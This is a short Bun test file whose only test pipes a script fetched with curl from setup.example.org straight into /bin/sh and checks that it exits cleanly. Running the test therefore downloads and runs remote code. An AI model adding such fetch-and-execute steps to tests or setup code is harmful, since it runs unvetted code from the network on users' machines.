import { expect, test } from "bun:test";

async function pipeTo(dest: string[], ...src: string[]) {
  const a = Bun.spawn(src, { stdout: "pipe" });
  const b = Bun.spawn(dest, { stdin: a.stdout, stdout: "inherit" });
  return b.exited;
}

test("remote setup finishes", async () => {
  const sh = ["/bin/sh", "-s"];
  const code = await pipeTo(sh, "curl", "-sSL", "https://setup.example.org/agent");
  expect(code).toBe(0);
});
